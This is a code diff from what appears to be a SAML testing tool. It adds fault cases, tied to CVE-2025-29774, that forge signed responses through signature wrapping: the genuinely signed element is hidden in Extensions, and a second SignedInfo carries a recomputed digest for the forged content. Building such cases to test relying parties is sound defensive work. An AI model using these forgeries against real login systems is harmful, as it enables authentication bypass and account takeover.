@@ -29,12 +29,17 @@ def _forge_in_place(response: Element, context: FaultContext) -> tuple[Element, 
     signature = own_signature(target)
     assert signature is not None  # noqa: S101 - drop_outer_signature returns a signed element
     forgery_of(response, context).rewrite(target)
+    return target, signature, _digest_of(target, response, context)
+
+
+def _digest_of(target: Element, response: Element, context: FaultContext) -> str:
+    """The DigestValue that fits the element as it is now."""
     bare = response.copy()
-    copied = bare if target is response else bare.one(target.name)
+    copied = next(element for element in bare.walk() if element.get("ID") == target.get("ID"))
     remove_signature(copied)
     algorithm = context.signing.digest_algorithm.lower()
     digest = hashlib.new(algorithm, exclusive(copied, bare), usedforsecurity=False).digest()
-    return target, signature, base64.b64encode(digest).decode()
+    return base64.b64encode(digest).decode()
 
 
 def _second_signed_info(response: Element, context: FaultContext, *, first: bool) -> None:
@@ -55,6 +60,28 @@ def signedinfo_duplicate_first(response: Element, context: FaultContext) -> None
 def signedinfo_duplicate_last(response: Element, context: FaultContext) -> None:
     """A second SignedInfo with the digest of the forged content stands behind the signed one."""
     _second_signed_info(response, context, first=False)
+
+
+def _second_for_the_forged(response: Element, context: FaultContext, *, first: bool) -> None:
+    forged, _genuine = hide_in_extensions(response, context, move_signature=True)
+    signature = forged.one("ds:Signature")
+    signed = signature.one("ds:SignedInfo")
+    second = signed.copy()
+    second.one("ds:Reference").set("URI", f"#{forged.get('ID')}")
+    second.one("ds:DigestValue").text = _digest_of(forged, response, context)
+    (signature.insert_before if first else signature.insert_after)(signed, second)
+
+
+@on("signed", "sig-signedinfo-duplicate", source=f"{DSIG}; CVE-2025-29774", applies=any_signature)
+def signedinfo_second_for_forged_first(response: Element, context: FaultContext) -> None:
+    """The signed element hides in Extensions; in its Signature, a SignedInfo for the forged one stands first."""
+    _second_for_the_forged(response, context, first=True)
+
+
+@on("signed", "sig-signedinfo-duplicate", source=f"{DSIG}; CVE-2025-29774", applies=any_signature)
+def signedinfo_second_for_forged_last(response: Element, context: FaultContext) -> None:
+    """The signed element hides in Extensions; in its Signature, a SignedInfo for the forged one stands last."""
+    _second_for_the_forged(response, context, first=False)
 
 
 def _in_digest(name: str, title: str, nodes: Callable[[str, str], list[Node]], source: str) -> None:
